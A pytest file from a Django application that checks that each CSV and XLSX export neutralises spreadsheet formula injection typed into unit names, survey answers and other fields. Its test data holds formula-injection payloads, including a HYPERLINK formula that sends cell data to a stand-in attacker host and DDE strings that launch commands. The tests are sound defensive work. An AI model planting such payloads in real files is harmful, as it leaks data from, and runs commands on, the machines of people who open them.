"""No text typed by an officer or a worker runs as a formula in any file Lan Tỏa writes (issue
11, finding 5). Each export path (every CSV and XLSX a user can download or the command line
writes) gets each dangerous first character in the fields users type — unit names, an outlet
name, a worker's question — and every cell of the result must be inert: CSV text starting with
``= + - @`` (or a tab, a line break, their full-width forms, after spaces) carries the guard
apostrophe; an XLSX cell is never a formula and such text is marked ``quotePrefix``. Numbers stay
numbers, negative ones too.

tests/architecture/test_guarded_writers.py keeps new exporters on the one guarded writer."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from lantoa.activities.models import Activity, ActivityKind
from lantoa.cascades import services as cascade_services
from lantoa.core.periods import parse_period
from lantoa.inquiries.models import Inquiry
from lantoa.reports.data import report_data
from lantoa.reports.render_xlsx import render_xlsx
from lantoa.surveys.models import Survey
from lantoa.surveys.services import response_submit
from lantoa.units.exporting import export_to_path
from lantoa.units.models import Unit
from tests.cascades.support import make, row
from tests.conftest import Officers, Tree, login
from tests.inquiries.support import receive
from tests.surveys.support import answers, open_survey

PAYLOADS = [
    '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")',
    '+cmd|" /C calc"!A0',
    '-2+3+cmd|" /C calc"!A0',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # ＝
    "\uff0bcmd",  # ＋
    "\uff20SUM(A1)",  # ＠
    "  =1+1",
]
LIVE_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
NEGATIVE = re.compile(r"-\d+(?:[.,]\d+)*%?")


def looks_live(text: str) -> bool:
    """What a spreadsheet would run (an independent statement of the rule)."""
    stripped = text.lstrip(" \u00a0")
    return stripped[:1] in LIVE_STARTS and not NEGATIVE.fullmatch(stripped)


def same(a: str, b: str) -> bool:
    return a.replace("\r", "\n").strip() == b.replace("\r", "\n").strip()


def check_csv(data: bytes, payload: str) -> None:
    cells = [c for r in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for c in r]
    live = [c for c in cells if looks_live(c)]
    assert not live, live
    assert any(c.startswith("'") and same(c[1:], payload) for c in cells), "payload not exported"


def check_xlsx(data: bytes, payload: str) -> None:
    archive = zipfile.ZipFile(io.BytesIO(data))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/"):
            assert not re.search(rb"<(\w+:)?f[ >/]", archive.read(name)), f"formula in {name}"
    book = openpyxl.load_workbook(io.BytesIO(data))
    found = False
    for sheet in book.worksheets:
        for cells in sheet.iter_rows():
            for cell in cells:
                assert cell.data_type != "f", cell.coordinate
                if not isinstance(cell.value, str):
                    continue
                if looks_live(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.value)
                # Inert either way: marked text, or text behind an apostrophe.
                found = found or same(cell.value.removeprefix("'"), payload)
    assert found, "payload not exported"


Export = Callable[[Client, Tree, Officers, str, Path], tuple[str, bytes]]


def rename(unit: Unit, payload: str) -> None:
    Unit.objects.filter(pk=unit.pk).update(name=payload, employer_name=payload)


def units_page(fmt: str) -> Export:
    def export(client: Client, tree: Tree, officers: Officers, payload: str, _: Path) -> Any:
        rename(tree.a_g1, payload)
        login(client, officers.a_leader)
        response = client.get(reverse("unitimport:export", args=["P-A"]) + f"?dinh-dang={fmt}")
        return fmt, b"".join(response.streaming_content)

    return export


def units_command(fmt: str) -> Export:
    def export(client: Client, tree: Tree, officers: Officers, payload: str, tmp: Path) -> Any:
        rename(tree.a_g1, payload)
        path = tmp / f"don-vi.{fmt}"
        export_to_path(str(path), root=tree.pa)
        return fmt, path.read_bytes()

    return export


def cascade(fmt: str) -> Export:
    def export(client: Client, tree: Tree, officers: Officers, payload: str, _: Path) -> Any:
        sent = make(tree.pa, send=True)
        cascade_services.recipient_advance(
            recipient=row(sent, tree.a_g1), actor=None, state="received"
        )
        rename(tree.a_kcn, payload)
        rename(tree.a_g1, payload)
        login(client, officers.a_admin)
        url = reverse("cascades:export", args=[sent.pk])
        response = client.get(url + f"?bang=tong-hop&dinh-dang={fmt}")
        late = client.get(url + f"?bang=cham-tre&dinh-dang={fmt}&don-vi=A-KCN")
        assert response.status_code == late.status_code == 200
        return fmt, b"".join(response.streaming_content)

    return export


def survey(fmt: str) -> Export:
    """A worker's written answers (short and long text) in the survey's streamed export."""

    def export(client: Client, tree: Tree, officers: Officers, payload: str, _: Path) -> Any:
        found = Survey.objects.filter(unit=tree.pa).first()
        opened = found or open_survey(tree.pa, officers.a_propaganda, officers.a_leader)
        response_submit(survey=opened, unit=tree.a_g1, answers=answers(E1=payload, E2=payload))
        login(client, officers.a_propaganda)
        response = client.get(reverse("surveys:export", kwargs={"pk": opened.pk, "fmt": fmt}))
        return fmt, b"".join(response.streaming_content)

    return export


def coverage(client: Client, tree: Tree, officers: Officers, payload: str, _: Path) -> Any:
    rename(tree.a_g1, payload)
    login(client, officers.a_propaganda)
    return "csv", client.get(reverse("channels:coverage_csv", kwargs={"code": "P-A"})).content


def inbox(client: Client, tree: Tree, officers: Officers, payload: str, _: Path) -> Any:
    inquiry = receive(tree.a_g1)
    Inquiry.objects.filter(pk=inquiry.pk).update(subject=payload)
    rename(tree.a_g1, payload)
    login(client, officers.a_admin)
    response = client.post(reverse("inquiries:export"), {"xem": "tat-ca", "lien_he": "1"})
    return "csv", response.content


def inquiry_report(fmt: str) -> Export:
    def export(client: Client, tree: Tree, officers: Officers, payload: str, _: Path) -> Any:
        rename(tree.a_kcn, payload)
        login(client, officers.a_admin)
        query = f"?ky=nam&nam=2026&dinh_dang={fmt}"
        return fmt, client.get(reverse("inquiries:report_export", args=["P-A"]) + query).content

    return export


def period_report(client: Client, tree: Tree, officers: Officers, payload: str, _: Path) -> Any:
    """The finding's own case: a press outlet typed by a grassroots officer."""
    Activity.objects.create(
        unit=tree.a_g1,
        held_on=dt.date(2022, 3, 1),
        kind=ActivityKind.PRESS,
        title="Bài về Tháng Công nhân",
        outlet=payload[:150],
        quantity=2,
    )
    data = report_data(tree.pa, parse_period("2022-H1"), issued_on=dt.date(2022, 7, 5))
    return "xlsx", render_xlsx(data)


EXPORTS: dict[str, Export] = {
    "units-page-csv": units_page("csv"),
    "units-page-xlsx": units_page("xlsx"),
    "units-command-csv": units_command("csv"),
    "units-command-xlsx": units_command("xlsx"),
    "cascade-csv": cascade("csv"),
    "cascade-xlsx": cascade("xlsx"),
    "survey-csv": survey("csv"),
    "survey-xlsx": survey("xlsx"),
    "coverage-gaps-csv": coverage,
    "inbox-csv": inbox,
    "inquiry-report-csv": inquiry_report("csv"),
    "inquiry-report-xlsx": inquiry_report("xlsx"),
    "period-report-xlsx": period_report,
}


@pytest.fixture(autouse=True)
def _media(settings: Any, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.mark.parametrize("name", list(EXPORTS))
def test_every_export_keeps_typed_text_inert(
    client: Client, tree: Tree, officers: Officers, tmp_path: Path, name: str
) -> None:
    for payload in PAYLOADS:
        fmt, data = EXPORTS[name](client, tree, officers, payload, tmp_path)
        check = check_csv if fmt == "csv" else check_xlsx
        try:
            check(data, payload)
        except AssertionError as exc:
            raise AssertionError(f"{name}, {payload!r}: {exc}") from exc


def test_numbers_stay_numbers_in_the_exports(
    client: Client, tree: Tree, officers: Officers, tmp_path: Path
) -> None:
    Unit.objects.filter(pk=tree.a_g1.pk).update(name="-12")  # a name that is a number
    _fmt, data = units_command("xlsx")(client, tree, officers, "-12", tmp_path)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    a_g1 = next(r for r in sheet.iter_rows() if r[0].value == "A-G1")
    assert (a_g1[1].value, a_g1[1].quotePrefix) == ("-12", False)
    assert (a_g1[5].value, a_g1[5].data_type) == (1200, "n")
    _fmt, text = units_command("csv")(client, tree, officers, "-12", tmp_path)
    line = next(r for r in csv.reader(io.StringIO(text.decode("utf-8-sig"))) if r[0] == "A-G1")
    assert line[1] == "-12" and line[5] == "1200"
